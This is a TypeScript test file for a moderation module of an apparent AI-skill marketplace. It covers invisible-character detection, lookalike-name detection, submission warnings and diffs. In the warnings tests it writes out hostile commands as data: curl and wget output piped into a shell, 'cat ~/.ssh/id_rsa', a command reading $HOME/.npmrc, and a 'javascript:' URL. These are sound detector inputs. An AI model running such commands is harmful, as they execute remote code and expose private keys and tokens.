import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { invisibleCharacters, revealed } from '#domain/text/invisible-characters.ts'
import { difference, distance, nearest, nearness } from '#domain/moderation/lookalikes.ts'
import { flagsOf, riskyParts, warningsOf } from '#domain/moderation/review-warnings.ts'
import { around, contentDiff, lineDiff } from '#domain/text/diff.ts'

describe('what cannot be seen', () => {
  test('marks of direction, characters without width, fillers and controls are found by their number', () => {
    expect(
      invisibleCharacters('a\u202Eb\u200Bc\u2066d\uFEFFe\u00ADf\u3164g\u0007h\u{E0041}i'),
    ).toEqual(['U+202E', 'U+200B', 'U+2066', 'U+FEFF', 'U+00AD', 'U+3164', 'U+0007', 'U+E0041'])
  })

  test('line breaks, tabs, accents, Chinese, families and coloured hearts hide nothing', () => {
    for (const text of ['a\nb\tc\r\n', 'é e\u0301', '浏览器领航', '👨‍👩‍👧 👩🏽‍💻 ❤️ 🏳️‍🌈', 'عربي'])
      expect(invisibleCharacters(text), text).toEqual([])
    expect(invisibleCharacters('pay\u200Dpal')).toEqual(['U+200D'])
  })

  test('the pieces are the text, whatever it is', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(
          revealed(text)
            .map((piece) => piece.text)
            .join(''),
        ).toBe(text)
      }),
    )
  })
})

describe('names that can be taken for others', () => {
  const named = (slug: string, name = slug, nameEn: string | null = null) => ({
    id: slug,
    slug,
    name,
    nameEn,
  })

  test('digits for letters, other alphabets, exchanged and missing letters are near', () => {
    const theirs = named('browser-pilot', '浏览器领航')
    for (const mine of [
      named('browser-pi1ot', 'x'),
      named('browserpilot', 'x'),
      named('brovvser-pilot', 'x'),
      named('brwoser-pilot', 'x'),
      named('browser-pilots', 'x'),
      named('zzzzzzzzzzz', '浏览器领航员'),
      named('zzzzzzzzzzz', 'y', 'Brоwser Pilоt'),
    ]) {
      expect(nearness(mine, theirs), mine.slug).not.toBeNull()
    }
  })

  test('other names are not, and short ones only when they are the same', () => {
    for (const [mine, theirs] of [
      ['sql', 'seo'],
      ['pdf', 'pdb'],
      ['browser-pilot', 'browser-stage'],
      ['report', 'import'],
    ] as const)
      expect(nearness(named(mine), named(theirs)), mine).toBeNull()
    expect(nearness(named('a', '表格'), named('b', '表演'))).toBeNull()
    expect(nearness(named('a', '发票'), named('b', '发票'))).toBe(0)
  })

  test('the nearest comes first, three at most', () => {
    expect(
      nearest(
        named('invoice-sorter'),
        ['other', 'invoice-sorted', 'invoice-s0rter', 'invoice-sorters', 'invoice-sort'].map(
          (slug) => named(slug),
        ),
      ).map(({ id }) => id),
    ).toEqual(['invoice-s0rter', 'invoice-sorted', 'invoice-sorters'])
  })

  test('a distance is that of the textbook, up to its limit, and does not depend on the order', () => {
    expect([
      distance('kitten', 'sitting', 5),
      distance('ab', 'ba', 2),
      distance('abcdef', 'x', 2),
    ]).toEqual([3, 1, 3])
    fc.assert(
      fc.property(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), (a, b) => {
        expect(distance(a, b, 8)).toBe(distance(b, a, 8))
      }),
    )
  })

  test('where two slugs differ is said letter by letter', () => {
    expect(difference('browser-pi1ot', 'browser-pilot')).toEqual({
      before: 'browser-pi',
      one: '1',
      other: 'l',
      after: 'ot',
    })
    expect(difference('aa', 'aaa')).toEqual({ before: 'aa', one: '', other: 'a', after: '' })
  })
})

describe('warnings', () => {
  const good = {
    name: 'n',
    slug: 'n',
    summary: 's',
    description: 'd',
    category: ['data'],
    runtime: ['node'],
    support: ['claude'],
    complexity: 'basic',
    license: 'MIT',
    price: 'free',
    status: 'stable',
    version: '1',
    repoUrl: 'https://example.com/x',
  }
  const kinds = (more: object) => warningsOf('skill', { ...good, ...more }).map(({ kind }) => kind)

  test('a submission without fault has none', () => {
    expect(kinds({})).toEqual([])
    expect(
      warningsOf('template', {
        name: 'n',
        slug: 'n',
        description: 'd',
        content: 'c',
        category: ['data'],
        tags: [],
      }),
    ).toEqual([])
  })

  test('each danger is found where it stands', () => {
    expect(
      kinds({ installCli: 'curl -sL https://x.example/a | sudo bash', permissions: ['network'] }),
    ).toEqual(['pipe-to-shell'])
    expect(kinds({ description: 'run `wget -qO- https://x.example | sh` first' })).toEqual([
      'pipe-to-shell',
    ])
    expect(kinds({ repoUrl: 'http://example.com/x' })).toEqual(['unencrypted-address'])
    expect(
      kinds({ installMcp: '{"url": "http://example.com/mcp"}', permissions: ['network'] }),
    ).toEqual(['unencrypted-address'])
    expect(kinds({ installCli: 'cat ~/.ssh/id_rsa', permissions: ['read-files'] })).toEqual([
      'touches-secrets',
    ])
    expect(kinds({ io: { input: { 'a\u200B': 'string' }, output: {} } })).toEqual(['hidden-signs'])
    expect(kinds({ license: 'Unknown' })).toEqual(['no-license'])
    expect(kinds({ installCli: 'npx x' })).toEqual(['no-permissions'])
    expect(warningsOf('skill', { ...good, homepage: 'javascript:alert(1)' })).toEqual([
      { kind: 'invalid-content', detail: 'homepage' },
    ])
  })

  test('content of any shape is read without an error', () => {
    fc.assert(
      fc.property(
        fc.dictionary(
          fc.constantFrom(...Object.keys(good), 'screenshots', 'permissions', 'io', 'installCli'),
          fc.jsonValue(),
        ),
        (content) => {
          warningsOf('skill', content)
        },
      ),
    )
  })

  test('a list flags the grave ones only', () => {
    expect(
      flagsOf('skill', { installCli: 'curl https://x.example | sh', license: 'Unknown' }),
    ).toEqual(['pipe-to-shell', 'no-license'])
    expect(flagsOf('template', {})).toEqual([])
  })

  test('the parts of a command are the command, the risky ones apart', () => {
    const command = 'curl -fsSL https://x.example/p.sh | sh -s -- --token $HOME/.npmrc'
    expect(
      riskyParts(command)
        .map(({ text }) => text)
        .join(''),
    ).toBe(command)
    expect(
      riskyParts(command)
        .filter(({ risky }) => risky)
        .map(({ text }) => text),
    ).toEqual(['curl -fsSL', '| sh', '$HOME/.npmrc'])
    fc.assert(
      fc.property(fc.string(), (text) => {
        expect(
          riskyParts(text)
            .map((part) => part.text)
            .join(''),
        ).toBe(text)
      }),
    )
  })
})

describe('what changed', () => {
  test('the old lines and the new ones are both whole, in their order', () => {
    const lines = fc
      .array(fc.constantFrom('a', 'b', 'c', ''), { maxLength: 12 })
      .map((all) => all.join('\n'))
    fc.assert(
      fc.property(lines, lines, (before, after) => {
        const diff = lineDiff(before, after)
        expect(
          diff
            .filter(({ kind }) => kind !== 'new')
            .map(({ text }) => text)
            .join('\n'),
        ).toBe(before)
        expect(
          diff
            .filter(({ kind }) => kind !== 'old')
            .map(({ text }) => text)
            .join('\n'),
        ).toBe(after)
      }),
    )
  })

  test('texts that are very long and wholly different still come back', () => {
    const text = (word: string) =>
      Array.from({ length: 20_000 }, (_, at) => `${word} ${at}`).join('\n')
    expect(lineDiff(text('a'), text('b'))).toHaveLength(40_000)
    const kinds = lineDiff(`first\n${text('a')}\nlast`, `first\n${text('b')}\nlast`).map(
      ({ kind }) => kind,
    )
    expect(kinds.filter((kind, at) => kind !== kinds[at - 1])).toEqual([
      'same',
      'old',
      'new',
      'same',
    ])
  })

  test('of a long text in which three lines changed, only these three are shown as changed', () => {
    const lines = Array.from({ length: 20_000 }, (_, at) => `line ${at}`)
    const changed = lines.map((line, at) => ([5, 9000, 19_990].includes(at) ? 'x' : line))
    const diff = lineDiff(lines.join('\n'), changed.join('\n'))
    expect(diff.filter(({ kind }) => kind !== 'same')).toEqual(
      [5, 9000, 19_990].flatMap((at) => [
        { kind: 'old', text: `line ${at}` },
        { kind: 'new', text: 'x' },
      ]),
    )
  })

  test('far from a change lines are left out, once', () => {
    const before = Array.from({ length: 20 }, (_, at) => String(at)).join('\n')
    expect(
      around(lineDiff(before, before.replace('\n10\n', '\nten\n')), 1).map(
        (line) => line?.text ?? '…',
      ),
    ).toEqual(['…', '9', '10', 'ten', '11', '…'])
  })

  test('fields that are alike are not named, lists and shapes are compared as people read them', () => {
    expect(
      contentDiff(
        { a: 'x', b: ['1', '2'], c: { d: 1 }, gone: 'y' },
        { a: 'x', b: ['1', '3'], c: { d: 1 }, fresh: 'z' },
      ).map(({ field, lines }) => [
        field,
        lines.filter(({ kind }) => kind !== 'same').map(({ kind, text }) => `${kind} ${text}`),
      ]),
    ).toEqual([
      ['b', ['old 2', 'new 3']],
      ['fresh', ['new z']],
      ['gone', ['old y']],
    ])
  })
})
